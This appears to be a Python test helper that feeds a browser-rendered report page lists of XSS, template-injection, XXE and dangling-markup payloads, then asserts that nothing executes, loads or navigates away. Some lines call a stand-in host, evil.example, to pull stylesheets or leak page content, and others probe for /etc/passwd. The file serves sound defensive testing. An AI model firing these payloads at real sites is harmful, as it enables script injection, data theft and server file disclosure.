"""Hostile text, and what a page of it is held to: it shows the text as it was, runs nothing, loads nothing, leads nowhere."""

from framing.output import without_turns
from tests.check.pages import keep, open_page, overhang, quiet

HOSTILE = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '"><svg onload=window.hit=1>',
    "'-window.hit=1-'",
    "</style><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<a href=javascript:window.hit=1 autofocus onfocus=window.hit=1>x</a>",
    "<body onload=window.hit=1>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "{{ window.hit }}{% raw %}",
    "<!--><script>window.hit=1</script>-->",
    "<form action=//example.org><button>x</button></form>",
    "]]></text></svg><script>window.hit=1</script>",
    "\u202e\u0000<meta http-equiv=refresh content='0;url=//example.org'>",
]
MORE = [
    "<script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "<template shadowrootmode=open><img src=x onerror=window.hit=1></template>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hit=1&gt;">',
    "<svg><foreignObject><iframe src=javascript:parent.hit=1></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=window.hit=1></style></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>window.hit=1</script></svg>#x'>",
    "</style><style>@import '//evil.example/x.css'; * { background: url(//evil.example/y) }",
    "*/ } @import url(//evil.example/x.css); body { background: url(//evil.example/y) } /*",
    "javascript:window.hit=1",
    "javascript&colon;window.hit=1",
    "jav&#x09;ascript:window.hit=1",
    "java\nscript:window.hit=1",
    "\x01javascript:window.hit=1",
    "data:text/html,<script>parent.hit=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    '<iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;">',
    '"><meta http-equiv=refresh content="0;url=//evil.example">',
    "<img src='//evil.example/?",
    '"><base href="//evil.example/',
    "<form action=//evil.example><textarea name=x>",
    "<plaintext>",
    "<!--",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "<img src=`x` onerror=`window.hit=1`>",
    "` onmouseover=window.hit=1 autofocus onfocus=window.hit=1 x=`",
    "' style='animation: x' onanimationstart='window.hit=1",
    "<scr\x00ipt>window.hit=1</scr\x00ipt>",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{{cycler.__init__.__globals__}}",
    "{% include '/etc/passwd' %}{# note #}",
    "\u2028window.hit=1\u2029//",
    "\u2067<b onclick=window.hit=1>\u2069\u202dx",
    "\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "<?xml-stylesheet href='javascript:window.hit=1'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;",
    "$\\href{javascript:window.hit=1}{x}$",
    "[x](javascript:window.hit=1) ![x](//evil.example/x.png)",
    "<object data=javascript:window.hit=1><embed src=//evil.example>",
    "<details open ontoggle=window.hit=1><summary>",
    "<input autofocus onfocus=window.hit=1>",
    "<a href=//evil.example ping=//evil.example target=_blank>x</a>",
]
"""Further kinds, one after the other in one field after the other."""

ALL = [*HOSTILE, *MORE]


def half(place):
    """Every second payload: all of them in any two fields that are neighbours, and pages drawn in a quarter of the time."""
    return ALL[place % 2 :: 2]


FOREIGN = """() => [...document.querySelectorAll("*")].flatMap(element => {
  const tag = element.localName, from = element.getAttribute("src") || "";
  const ours = ("html head body header footer main section article nav h1 h2 h3 h4 p ul ol li dl dt dd a b strong span div "
    + "mark table caption thead tbody tr th td figure figcaption details summary fieldset legend label input blockquote pre "
    + "code g path use text desc defs clipPath rect pattern").split(" ");
  const isOurs = {
    img: from.startsWith("data:image/svg+xml;base64,") && element.alt,
    svg: element.getAttribute("role") === "img",
    meta: !/refresh/i.test(element.httpEquiv),
    style: element.parentElement?.localName === "head" || element.hasAttribute("scoped"),  // which is how pandas marks its own
    title: ["head", "svg"].includes(element.parentElement?.localName),
  }[tag] ?? ours.includes(tag);
  const refused = /^on|^style$|^autofocus$|^srcdoc$|^(form)?action$|^target$|^ping$|^poster$|^background$|^srcset$/;
  const isPandas = tag === "tr" && element.getAttribute("style") === "text-align: right;";
  const attributes = [...element.attributes].filter(({name}) => refused.test(name));
  return isOurs && (isPandas || !attributes.length) ? [] : [element.outerHTML.slice(0, 200)];
})"""


def shown(text):
    """Text as a page shows it: white space as one blank, without what HTML cannot hold or what turns text around."""
    return " ".join("".join(character for character in without_turns(text) if character not in "\0\ufffd\x01").split())


def examine(browser, path, files=(), outside=()):
    """Open a page, assert that nothing of it runs, loads or leads away, and give all that can be read in it.

    `files`: the pages that it may lead to; `outside`: the addresses that it may, and does.
    """
    page, seen = open_page(browser, path)
    page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)")
    page.wait_for_timeout(100)
    seen["requests"] = [url for url in seen["requests"] if not url.startswith("data:image/svg+xml")]
    assert seen == quiet(path)
    assert page.evaluate("typeof window.hit") == "undefined"
    assert page.evaluate(FOREIGN) == []
    links = page.eval_on_selector_all("[href]", "links => links.map(link => [link.getAttribute('href'), link.rel])")
    away = [link for link in links if not link[0].startswith("#") and link[0] not in files]
    assert sorted(away) == sorted([url, "noopener noreferrer"] for url in outside)
    linked = page.evaluate("[...document.querySelectorAll('*')].map(e => e.getAttribute('xlink:href')).filter(to => to)")
    assert [link for link in linked if not link.startswith("#")] == []
    assert overhang(page) <= 0
    keep(page, f"hostile-{path.stem}"[:100])
    text = shown(page.evaluate("document.body.innerText"))
    page.close()
    return text
